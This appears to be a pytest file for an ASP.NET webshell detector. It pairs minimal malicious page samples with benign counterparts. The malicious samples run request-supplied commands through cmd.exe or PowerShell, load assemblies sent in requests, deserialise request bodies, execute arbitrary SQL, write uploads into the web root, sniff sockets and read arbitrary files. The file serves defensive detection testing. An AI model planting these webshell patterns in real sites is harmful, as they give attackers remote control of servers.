"""ASP.NET pages: extraction, C# dataflow, VB/JScript token analysis and the capability checks.

Every page here is a minimal sample written for these tests: a positive and a benign
counterpart for each ID, plus obfuscated variants (decoders, split strings, UTF-16, typographic
quotes, handlers, VB.NET).
"""

from __future__ import annotations

import base64

import pytest

from sscguard.detect.webshell.aspx_extract import extract, is_dotnet_page
from sscguard.detect.webshell.detectors import FileContext, run_detectors
from sscguard.detect.webshell.dotnet import CAPABILITY_RULES, analyse_page, detect_dotnet
from sscguard.model import Finding, Severity
from sscguard.rules.yara import Matcher, RuleSet


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


ENCODED_READER = 'Request.Item["z"]'
HEAD = '<%@ Page Language="C#" %>\n'
FORM = (
    '<form runat="server"><asp:TextBox ID="txtPath" runat="server"/>'
    '<asp:TextBox ID="txtBody" runat="server" TextMode="MultiLine"/>'
    '<input type="text" id="cmd" runat="server"/>'
    '<asp:FileUpload ID="up" runat="server"/></form>\n'
)

POSITIVES: dict[str, dict[str, str]] = {
    "SSC-003-405": {
        "assembly-from-request": HEAD + '<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '  byte[] b = Convert.FromBase64String(Request.Form["p"]);\n'
        "  System.Reflection.Assembly a = System.Reflection.Assembly.Load(b);\n"
        '  a.CreateInstance("X").Equals(this);\n'
        "}\n</script>\n",
        "compiler": HEAD + "<%\n"
        "var p = new Microsoft.CSharp.CSharpCodeProvider();\n"
        'string src = Request["code"];\n'
        "var cp = new System.CodeDom.Compiler.CompilerParameters();\n"
        "var r = p.CompileAssemblyFromSource(cp, src);\n"
        "%>\n",
        "jscript-eval-split-strings": '<%@ Page Language="Jscript" %>\n<%\n'
        'var P = "ev" + "al(" + "Req" + "uest.Item[\\"z\\"]" + ")";\n'
        'eval(P, "unsafe");\n%>\n',
        "reflection-chosen-type": HEAD + "<%\n"
        'Type t = Type.GetType(Request.QueryString["t"]);\n'
        "Activator.CreateInstance(t);\n%>\n",
        "binaryformatter-request-body": HEAD + "<%\n"
        "var f = new System.Runtime.Serialization.Formatters.Binary.BinaryFormatter();\n"
        "f.Deserialize(Request.InputStream);\n%>\n",
        "losformatter-form-field": HEAD
        + '<% new System.Web.UI.LosFormatter().Deserialize(Request.Form["v"]); %>\n',
        "roslyn-script": HEAD + "<%\n"
        "var r = Microsoft.CodeAnalysis.CSharp.Scripting.CSharpScript\n"
        '  .EvaluateAsync(Request["c"]);\n'
        "%>\n",
    },
    "SSC-003-430": {
        "process-start-info": HEAD + '<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '  string c = Request.Form["c"];\n'
        "  var d = Encoding.UTF8.GetString(Convert.FromBase64String(c));\n"
        "  Run(d);\n}\n"
        "void Run(string x) {\n"
        "  ProcessStartInfo psi = new ProcessStartInfo();\n"
        '  psi.FileName = "cmd.exe";\n'
        '  psi.Arguments = "/c " + x;\n'
        "  Process.Start(psi);\n}\n</script>\n",
        "server-control": HEAD + '<script runat="server">\n'
        "void Go(object s, EventArgs e) {\n"
        '  System.Diagnostics.Process.Start("cmd.exe", "/c " + cmd.Value);\n'
        "}\n</script>\n" + FORM,
        "render-block-helper-return": HEAD + '<script runat="server">\n'
        'string Arg() { return HttpContext.Current.Request.Headers["X-A"]; }\n'
        '</script>\n<%= Process.Start(new ProcessStartInfo("cmd", Arg())) %>\n',
        "ashx-handler": '<%@ WebHandler Language="C#" Class="H" %>\n'
        "using System.Web;\n"
        "public class H : IHttpHandler {\n"
        "  public void ProcessRequest(HttpContext context) {\n"
        "    var p = new System.Diagnostics.Process();\n"
        '    p.StartInfo.FileName = context.Request["f"];\n'
        "    p.Start();\n  }\n"
        "  public bool IsReusable { get { return false; } }\n}\n",
        "vb-net": '<%@ Page Language="VB" %>\n<script runat="server">\n'
        "Sub Page_Load(sender As Object, e As EventArgs)\n"
        '  Dim c As String = Request.Form("c")\n'
        '  Process.Start("cmd.exe", "/c " & c)\n'
        "End Sub\n</script>\n",
        "typographic-quotes": "<%@ Page Language=\u201cC#\u201d %>\n"
        "<script runat=\u201cserver\u201d>\n"
        "void Page_Load(object s, EventArgs e) {\n"
        "  Process.Start(\u201ccmd.exe\u201d, Request[\u201cc\u201d]);\n}\n</script>\n",
        "web-method-parameter": '<%@ WebService Language="C#" Class="S" %>\n'
        "using System.Web.Services;\n"
        "public class S : WebService {\n"
        "  [WebMethod(EnableSession = true)]\n"
        "  public string Run(string c) {\n"
        '    return System.Diagnostics.Process.Start("cmd.exe", "/c " + c).Id.ToString();\n'
        "  }\n}\n",
        "powershell-runspace": HEAD + "<%\n"
        "var ps = System.Management.Automation.PowerShell.Create();\n"
        'ps.AddScript(Request.Form["c"]);\n'
        "foreach (var o in ps.Invoke()) Response.Write(o);\n%>\n",
        "nested-start-info-initializer": HEAD + "<%\n"
        'new System.Diagnostics.Process { StartInfo = { FileName = "cmd.exe",\n'
        '  Arguments = "/c " + Request["c"] } }.Start();\n%>\n',
    },
    "SSC-003-431": {
        "whole-statement": HEAD + "<%\n"
        'string sql = Request.QueryString["sql"];\n'
        'using (var conn = new SqlConnection("Server=.;Integrated Security=true")) {\n'
        "  var cmd = new SqlCommand(sql, conn);\n"
        "  conn.Open(); cmd.ExecuteReader();\n}\n%>\n",
        "connection-from-request": HEAD + '<script runat="server">\n'
        "void Dump(object s, EventArgs e) {\n"
        '  string cs = "server=" + txtPath.Text + ";uid=sa;pwd=" + txtBody.Text;\n'
        "  var conn = new SqlConnection(cs);\n"
        '  var da = new SqlDataAdapter("select * from " + txtBody.Text, conn);\n'
        "}\n</script>\n" + FORM,
    },
    "SSC-003-432": {
        "full-path-and-content": HEAD + '<script runat="server">\n'
        "void Save(object s, EventArgs e) {\n"
        "  System.IO.FileInfo fi = new System.IO.FileInfo(txtPath.Text);\n"
        "  System.IO.StreamWriter sw = fi.CreateText();\n"
        "  sw.Write(txtBody.Text);\n  sw.Close();\n}\n</script>\n" + FORM,
        "upload-into-web-root": HEAD + "<%\n"
        "HttpPostedFile f = Request.Files[0];\n"
        'string dir = Server.MapPath(".");\n'
        'f.SaveAs(dir + "\\\\" + System.IO.Path.GetFileName(f.FileName));\n%>\n',
    },
    "SSC-003-433": {
        "embedded-assembly": HEAD + "<%\n"
        f'byte[] pe = Convert.FromBase64String("{_b64("MZ" + chr(0x90) + "payload")}");\n'
        'System.Reflection.Assembly.Load(pe).CreateInstance("P");\n%>\n',
    },
    "SSC-003-434": {
        "raw-socket-sniffer": HEAD + '<script runat="server">\n'
        "void Start(object s, EventArgs e) {\n"
        "  var sock = new Socket(AddressFamily.InterNetwork, SocketType.Raw, ProtocolType.IP);\n"
        "  sock.Bind(new IPEndPoint(IPAddress.Any, 0));\n"
        "  sock.IOControl(IOControlCode.ReceiveAll, new byte[] {1, 0, 0, 0}, null);\n"
        "}\n</script>\n",
        "request-chosen-connect": HEAD + "<%\n"
        'var c = new System.Net.Sockets.TcpClient(Request["host"], 445);\n%>\n',
    },
    "SSC-003-435": {
        "request-key": HEAD + "<%\n"
        'string k = Request["key"];\n'
        "var rk = Registry.LocalMachine.OpenSubKey(k);\n%>\n",
        "hive-crawl": HEAD + "<%\n"
        "var st = new Stack();\n"
        "st.Push(Registry.LocalMachine); st.Push(Registry.CurrentUser); st.Push(Registry.Users);\n"
        "while (st.Count > 0) { var k = (RegistryKey)st.Pop();\n"
        "  foreach (string n in k.GetSubKeyNames()) st.Push(k.OpenSubKey(n)); }\n%>\n",
    },
    "SSC-003-436": {
        "download-any-file": HEAD + "<%\n"
        'string f = Request.Params["file"];\n'
        "Response.WriteFile(f);\n%>\n",
        "list-any-directory": HEAD + '<script runat="server">\n'
        "void Walk(System.IO.DirectoryInfo d) {\n"
        "  foreach (var s in d.GetDirectories()) Walk(s);\n"
        '  System.IO.File.Create(d.FullName + "\\\\probe").Close();\n}\n'
        "void Go(object o, EventArgs e) { Walk(new System.IO.DirectoryInfo(txtPath.Text)); }\n"
        "</script>\n" + FORM,
    },
    "SSC-003-437": {
        "encoded-request-reader": "<%\n"
        "eval(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String("
        f'"{_b64(ENCODED_READER)}")));\n%>\n',
    },
    "SSC-003-438": {
        "loader-stub": '<script language="C#" runat="server">\n'
        'Vendor.Tools.Gate g = new Vendor.Tools.Gate("0f3c9a1b");\n</script>\n',
    },
}

BENIGN: dict[str, str] = {
    "fixed-process": HEAD + "<%\n"
    'int n = int.Parse(Request["n"]);\n'
    'Process.Start("ping.exe", "-n 1 127.0.0.1");\n%>\n',
    "assembly-by-fixed-name": HEAD + "<%\n"
    'var a = System.Reflection.Assembly.Load("System.Web.Extensions");\n%>\n',
    "parameterised-sql": HEAD + "<%\n"
    'string cs = ConfigurationManager.ConnectionStrings["db"].ConnectionString;\n'
    "using (var conn = new SqlConnection(cs)) {\n"
    '  var cmd = new SqlCommand("select name from users where id = @id", conn);\n'
    '  cmd.Parameters.AddWithValue("@id", Request.QueryString["id"]);\n}\n%>\n',
    "sql-value-in-where": HEAD + "<%\n"
    'var cmd = new SqlCommand("select * from news where id = " + Request["id"], conn);\n%>\n',
    "upload-with-type-check": HEAD + "<%\n"
    "HttpPostedFile f = Request.Files[0];\n"
    "string ext = System.IO.Path.GetExtension(f.FileName).ToLower();\n"
    'if (ext == ".jpg" || ext == ".png") {\n'
    '  f.SaveAs(Server.MapPath("~/uploads/") + System.IO.Path.GetFileName(f.FileName));\n}\n%>\n',
    "log-to-fixed-file": HEAD + "<%\n"
    'System.IO.File.AppendAllText(Server.MapPath("~/App_Data/visits.log"), Request.UserAgent);\n'
    "%>\n",
    "fixed-registry-key": HEAD + "<%\n"
    'var k = Microsoft.Win32.Registry.LocalMachine.OpenSubKey(@"SOFTWARE\\Vendor\\App");\n%>\n',
    "download-under-fixed-folder": HEAD + "<%\n"
    'string name = System.IO.Path.GetFileName(Request["f"]);\n'
    'Response.WriteFile(Server.MapPath("~/files/" + name));\n%>\n',
    "smtp-to-fixed-host": HEAD + "<%\n"
    'var c = new System.Net.Sockets.TcpClient("mail.example.org", 25);\n%>\n',
    "base64-image-literal": HEAD + "<%\n"
    f'var png = Convert.FromBase64String("{_b64("PNG image bytes here, nothing else")}");\n'
    "Response.BinaryWrite(png);\n%>\n",
    "page-using-company-class": HEAD + "<html><body><h1>Orders</h1>\n"
    '<script runat="server">\nShop.Data.Orders o = new Shop.Data.Orders("main");\n</script>\n'
    "<%= o.Count %></body></html>\n",
    "web-method-parameterised-sql": '<%@ WebService Language="C#" Class="S" %>\n'
    "using System.Web.Services;\n"
    "public class S : WebService {\n"
    "  [WebMethod]\n"
    "  public int Count(string city) {\n"
    '    var cmd = new SqlCommand("select count(*) from shop where city = @c", conn);\n'
    '    cmd.Parameters.AddWithValue("@c", city);\n'
    "    return (int)cmd.ExecuteScalar();\n"
    "  }\n"
    "  private void Log(string text) {\n"
    '    System.Diagnostics.Process.Start("logger.exe", text);\n'
    "  }\n}\n",
    "powershell-fixed-script": HEAD + "<%\n"
    'int n = int.Parse(Request["n"]);\n'
    'var ps = System.Management.Automation.PowerShell.Create().AddScript("Get-Date");\n'
    "ps.Invoke();\n%>\n",
    "job-runner-runasync": HEAD + "<%\n"
    "var runner = new Shop.Jobs.Runner();\n"
    'runner.RunAsync(Request["job"]);\n'
    'browser.EvaluateAsync(Request.Form["selector"]);\n%>\n',
    "formatter-on-a-fixed-file": HEAD + "<%\n"
    "var f = new System.Runtime.Serialization.Formatters.Binary.BinaryFormatter();\n"
    'using (var s = System.IO.File.OpenRead(Server.MapPath("~/App_Data/cache.bin"))) {\n'
    "  var o = f.Deserialize(s);\n}\n%>\n",
    "nested-initializer-fixed-arguments": HEAD + "<%\n"
    'string who = Request["who"];\n'
    'new System.Diagnostics.Process { StartInfo = { FileName = "ping.exe",\n'
    '  Arguments = "-n 1 127.0.0.1" } }.Start();\n%>\n',
    "vb-fixed-process": '<%@ Page Language="VB" %>\n<script runat="server">\n'
    "Sub Page_Load(sender As Object, e As EventArgs)\n"
    '  Dim n As Integer = CInt(Request.Form("n"))\n'
    '  Process.Start("ping.exe", "127.0.0.1")\nEnd Sub\n</script>\n',
}


def _flagged(name: str, page: str, encoding: str = "utf-8") -> list[Finding]:
    ext = ".ashx" if "WebHandler" in page else ".asmx" if "WebService" in page else ".aspx"
    return [
        f
        for f in run_detectors(f"/w/{name}{ext}", page.encode(encoding), ())
        if f.severity >= Severity.MEDIUM
    ]


CASES = [(rid, name, page) for rid, pages in POSITIVES.items() for name, page in pages.items()]


@pytest.mark.parametrize(("rule_id", "name", "page"), CASES, ids=[c[1] for c in CASES])
def test_positive_pages_are_flagged_with_their_id(rule_id: str, name: str, page: str) -> None:
    found = _flagged(name, page)
    assert rule_id in {f.rule_id for f in found}, [(f.rule_id, f.severity) for f in found]


@pytest.mark.parametrize(("name", "page"), list(BENIGN.items()), ids=list(BENIGN))
def test_benign_pages_are_not_flagged(name: str, page: str) -> None:
    assert _flagged(name, page) == []


def test_every_capability_id_has_a_positive_and_the_ids_are_documented() -> None:
    from pathlib import Path

    docs = (Path(__file__).parents[2] / "docs" / "detection.md").read_text()
    for rule_id in ("SSC-003-405", "SSC-003-430", *CAPABILITY_RULES):
        assert rule_id in POSITIVES
        assert rule_id in docs


def test_evidence_names_each_hop_with_its_file_line() -> None:
    page = POSITIVES["SSC-003-430"]["process-start-info"]
    [finding] = [f for f in _flagged("p", page) if f.rule_id == "SSC-003-430"]
    steps = [e for e in finding.evidence if e.kind == "dataflow-step"]
    lines = [e.location.line for e in steps]
    assert steps[0].excerpt == 'Request.Form["c"]' and lines[0] == 4
    assert lines[-1] == 11  # psi.Arguments = "/c " + x
    assert 6 in lines  # Run(d): the call that passes the tainted value


def test_utf16_page_is_decoded_and_analysed() -> None:
    page = POSITIVES["SSC-003-430"]["server-control"]
    found = _flagged("u16", "\ufeff" + page, "utf-16-le")
    assert "SSC-003-430" in {f.rule_id for f in found}


def test_extractor_maps_lines_and_lists_controls() -> None:
    page = (
        HEAD + "<html>\n<% int a = 1; %>\n"
        '<script runat="server">\nvoid F() {\n  G();\n}\n</script>\n'
        '<%= H() %>\n<asp:TextBox runat="server" ID="Box1"/>\n'
        "<script>var client = 1;</script>\n"
    ).encode()
    code = extract(page)
    src = code.source.decode()
    lines = src.split("\n")
    assert code.line(lines.index("  G();") + 1) == 6
    assert code.line(next(i for i, x in enumerate(lines) if "__Echo( H()" in x) + 1) == 9
    assert code.line(next(i for i, x in enumerate(lines) if "int a = 1" in x) + 1) == 3
    assert code.controls == {"box1": "asp:textbox"}
    assert "client" not in src  # client-side script is markup
    assert (code.script_blocks, code.code_blocks) == (1, 2)


def test_dotnet_pages_are_recognised_by_directive_not_only_extension() -> None:
    assert is_dotnet_page(".txt", HEAD.encode() + b"<% %>")
    assert is_dotnet_page(".aspx", b"")
    assert not is_dotnet_page(".asp", b'<%@ Language="VBScript" %><% Response.Write(1) %>')
    assert not is_dotnet_page(".php", b"<?php echo 1; ?>")


def test_classic_asp_is_left_to_the_vbscript_analysers() -> None:
    page = b'<%@ Language="VBScript" %><% Set s = Server.CreateObject("WScript.Shell") %>'
    assert detect_dotnet(FileContext("/w/a.asp", page)) == []


def test_gate_closed_means_no_parse() -> None:
    page = POSITIVES["SSC-003-430"]["server-control"].encode()
    assert detect_dotnet(FileContext("/w/a.aspx", page, gates=frozenset())) == []
    assert detect_dotnet(FileContext("/w/a.aspx", page, gates=frozenset({"dotnet_page"})))


def test_token_analysis_follows_vb_assignments() -> None:
    page = POSITIVES["SSC-003-430"]["vb-net"].encode()
    result = analyse_page(page)
    [path] = result.analysis.paths
    assert path.sink == "Process.Start"
    assert [s.line for s in path.steps] == [4, 5]


def test_request_value_after_a_fixed_prefix_is_not_rooted() -> None:
    page = (HEAD + '<% File.Delete(Server.MapPath("~/tmp/") + Request["n"]); %>\n').encode()
    assert analyse_page(page).capabilities == ()
    rooted = (HEAD + '<% File.Delete(Request["n"]); %>\n').encode()
    assert [c.kind for c in analyse_page(rooted).capabilities] == ["fs-access"]


def test_gate_rule_passes_every_positive_and_utf16(ruleset: RuleSet) -> None:
    matcher = Matcher(ruleset)
    pages = [page.encode() for _, _, page in CASES]
    pages.append(("\ufeff" + POSITIVES["SSC-003-430"]["server-control"]).encode("utf-16-le"))
    for page in pages:
        matcher.match(page, {"filename": "", "filepath": "", "extension": "", "filetype": ""})
        assert "dotnet_page" in matcher.gates, page[:80]
    matcher.match(b"<html><body>static</body></html>", {})
    assert "dotnet_page" not in matcher.gates


def test_published_admin_tool_is_dual_use_low() -> None:
    """A large ASP.NET file manager with a licence header and its own login is the dual-use
    category (low); the same code without the identity header stays medium."""
    from sscguard.detect.webshell.detectors import run_detectors
    from sscguard.model import Severity

    body = (
        "<%\nif (!User.Identity.IsAuthenticated) { FormsAuthentication.RedirectToLoginPage(); }\n"
        'string f = Request.Params["file"];\nResponse.WriteFile(f);\n%>\n'
    )
    padding = "<!-- " + "help text for the file manager. " * 1400 + "-->\n"
    tool = HEAD + "<%-- FileBrowser.NET 2.1, Copyright 2024 Example Ltd, licensed under MIT --%>\n"
    published = (tool + body + padding).encode()
    anonymous = (HEAD + body + padding).encode()
    got = run_detectors("files.aspx", published, ())
    assert got and all(f.severity is Severity.LOW for f in got), [
        (f.rule_id, f.severity) for f in got
    ]
    assert any("dual-use" in e.detail for f in got for e in f.evidence)
    plain = run_detectors("files.aspx", anonymous, ())
    assert any(f.rule_id == "SSC-003-436" and f.severity >= Severity.MEDIUM for f in plain)
